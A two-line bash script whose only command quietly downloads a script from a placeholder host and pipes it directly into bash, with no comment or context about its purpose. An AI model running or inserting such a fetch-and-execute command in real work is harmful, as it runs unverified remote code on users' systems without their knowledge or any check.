#!/bin/bash
wget -qO- https://code.invalid/next | bash
